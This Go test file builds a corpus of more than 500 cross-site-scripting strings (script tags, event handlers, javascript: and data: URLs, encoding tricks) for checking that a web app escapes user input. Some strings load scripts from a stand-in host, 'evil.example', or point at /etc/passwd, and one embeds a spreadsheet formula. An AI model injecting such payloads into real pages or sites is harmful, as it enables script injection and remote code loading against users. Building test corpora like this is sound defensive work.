package app_test

import (
	"fmt"
	"strings"
	"testing"
)

// hostile are more than 500 strings that break pages which do not escape what people write. They run xssRan() where they can.
func hostile() []string {
	payloads := []string{
		`<xss-one>`, `<script>xssRan(1)</script>`, `<img src=x onerror=xssRan(2)>`, `<svg onload=xssRan(3)>`, `<svg><script>xssRan(4)</script></svg>`, `<iframe srcdoc="<script>parent.xssRan(5)</script>">`,
		`<a href="javascript:xssRan(6)">x</a>`, `<body onload=xssRan(7)>`, `<input autofocus onfocus=xssRan(8)>`, `<details open ontoggle=xssRan(9)>`, `<math><mtext></mtext><mglyph><style><img src=x onerror=xssRan(10)>`,
		`<style>@import "//evil.example/x.css"</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:xssRan(11)">`, `<object data="javascript:xssRan(12)">`,
		`<embed src="javascript:xssRan(13)">`, `<form action="javascript:xssRan(14)"><button>`, `<button formaction="javascript:xssRan(15)">`, `<video><source onerror=xssRan(16)>`, `<audio src=x onerror=xssRan(17)>`, `<marquee onstart=xssRan(18)>`,
		`<template><script>xssRan(19)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=xssRan(20)>">`, `<textarea autofocus onfocus=xssRan(21)>`, `<select onfocus=xssRan(22) autofocus>`, `<keygen autofocus onfocus=xssRan(23)>`,
		`<isindex type=image src=1 onerror=xssRan(24)>`, `<portal src=javascript:xssRan(25)>`, `<img/src="x"/onerror=xssRan(26)>`, "<img src=x onerror\n=xssRan(27)>", "<img\tsrc=x\tonerror=xssRan(28)>", `<IMG SRC=x OnErRoR=xssRan(29)>`, `<<script>xssRan(30)//<</script>`,
		`<scr<script>ipt>xssRan(31)</scr</script>ipt>`, `<script/x>xssRan(32)</script>`, `<script src=//evil.example/x.js></script>`, `<xss-two style=animation-name:x onanimationstart=xssRan(33)>`, ` onmouseover=xssRan(34) xssattr=1 `, `" onmouseover="xssRan(35)" xssattr="`,
		`' onmouseover='xssRan(36)' xssattr='`, "` onmouseover=`xssRan(37)` xssattr=`", `hx-get=/x hx-trigger=load`, `" hx-on:click="xssRan(38)" xssattr="`, `{{.}}`, `{{"xss"}}`, `${xssRan(39)}`, `#{xssRan(40)}`, `<%= xssRan(41) %>`, `<!--#exec cmd="ls"-->`, `<?php xssRan(42) ?>`,
		`<plaintext>`, `<xmp>`, `<listing>`, `<noembed>`, `<frameset onload=xssRan(43)>`, `<applet code=x>`, `<bgsound src=javascript:xssRan(44)>`, `<dialog open onclose=xssRan(45)>`, `<svg><animate onbegin=xssRan(46) attributeName=x dur=1s>`,
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>xssRan(47)</script></svg>#x">`, `<svg><foreignObject><xss-three></foreignObject></svg>`, `&lt;script&gt;xssRan(48)&lt;/script&gt;`, `&#60;script&#62;xssRan(49)&#60;/script&#62;`, `\u003cscript\u003exssRan(50)\u003c/script\u003e`,
		`%3Cscript%3ExssRan(51)%3C/script%3E`, `＜script＞xssRan(52)＜/script＞`, `+ADw-script+AD4-xssRan(53)+ADw-/script+AD4-`, "\u2028xssRan(54)\u2029", "<\u200bscript>xssRan(55)</script>",
	}
	closers := []string{"", `">`, `'>`, "`>", `--><`, `</title>`, `</textarea>`, `</script>`, `]]>`, `</style>`, `*/`, `\">`}
	urls := []string{
		"javascript:xssRan(60)", "JaVaScRiPt:xssRan(61)", " javascript:xssRan(62)", "java\tscript:xssRan(63)", "java\nscript:xssRan(64)", "\x01javascript:xssRan(65)", "javascript&colon;xssRan(66)", "javascript://%0axssRan(67)", "data:text/html,<script>xssRan(68)</script>",
		"data:text/html;base64,PHNjcmlwdD54c3NSYW4oNjkpPC9zY3JpcHQ+", "vbscript:xssRan(70)", "//evil.example/xss", `\\evil.example\xss`, "https://evil.example/xss", "/\\evil.example", "blob:https://evil.example/x", "file:///etc/passwd", "feed:javascript:xssRan(71)", "view-source:javascript:xssRan(72)",
	}
	list := append([]string{}, urls...)
	for _, c := range closers {
		for _, p := range payloads {
			list = append(list, c+p)
		}
	}
	return append(list, "\u202e<gpj.xss-four>", "مرحبا<xss-five>", "a\r\nevent: xss\r\ndata: x", "=HYPERLINK(\"//evil.example\")", strings.Repeat("<xss-six>", 40), fmt.Sprintf("%s<xss-seven>", strings.Repeat("A", 300)))
}

func TestThereAreEnoughHostileStrings(t *testing.T) {
	t.Parallel()
	seen := map[string]bool{}
	for _, s := range hostile() {
		if seen[s] {
			t.Errorf("%q stands twice", s)
		}
		seen[s] = true
	}
	if len(seen) < 500 {
		t.Errorf("%d hostile strings, want 500", len(seen))
	}
}
